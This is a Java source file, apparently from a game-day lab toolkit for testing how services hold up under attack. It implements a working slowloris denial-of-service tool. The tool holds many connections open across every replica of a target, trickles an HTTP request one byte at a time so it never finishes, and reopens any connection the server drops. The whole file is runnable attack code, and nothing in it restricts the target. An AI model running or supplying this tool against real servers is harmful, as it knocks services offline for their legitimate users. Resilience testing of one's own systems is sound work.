package dev.breakwater.lab.gameday.target;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.breakwater.console.client.Target;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A slowloris attack: connections that send a request byte by byte and never complete it. A closed
 * connection is replaced. They are spread over every replica that the address stands for.
 */
public final class SlowConnections {

    private static final Duration BYTE_INTERVAL = Duration.ofMillis(500);
    private static final int CONNECT_TIMEOUT_MILLIS = 2000;
    private static final byte[] REQUEST =
            "GET /orders?userId=slow HTTP/1.1\r\nHost: slow\r\nX-Slow: ".getBytes(US_ASCII);

    private final long end;
    private final AtomicInteger opened = new AtomicInteger();

    private SlowConnections(Duration time) {
        this.end = System.nanoTime() + time.toNanos();
    }

    /** Arguments: ADDRESS CONNECTIONS SECONDS. For a container in the network of the address. */
    public static void main(String[] arguments) {
        int opened =
                run(
                        URI.create(arguments[0]),
                        Integer.parseInt(arguments[1]),
                        Duration.ofSeconds(Long.parseLong(arguments[2])));
        System.out.println(opened + " connections were opened");
    }

    /**
     * Keeps the connections open for the given time.
     *
     * @param connections how many are open at a time
     * @return how many connections were opened
     */
    public static int run(URI address, int connections, Duration time) {
        SlowConnections clients = new SlowConnections(time);
        List<URI> replicas = Target.resolve(address).toList();
        try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
            for (int i = 0; i < connections; i++) {
                URI replica = replicas.get(i % replicas.size());
                threads.execute(() -> clients.keepConnected(replica));
            }
        }
        return clients.opened.get();
    }

    private void keepConnected(URI replica) {
        try {
            while (!isOver()) {
                sendSlowly(replica);
                Thread.sleep(BYTE_INTERVAL); // a refused connection is not retried faster
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void sendSlowly(URI replica) throws InterruptedException {
        try (Socket socket = new Socket()) {
            socket.connect(
                    new InetSocketAddress(replica.getHost(), replica.getPort()),
                    CONNECT_TIMEOUT_MILLIS);
            opened.incrementAndGet();
            for (byte each : REQUEST) {
                socket.getOutputStream().write(each);
                Thread.sleep(BYTE_INTERVAL);
                if (isOver()) {
                    return;
                }
            }
        } catch (IOException closed) {
            // by the server: the next connection follows
        }
    }

    private boolean isOver() {
        return System.nanoTime() > end;
    }
}
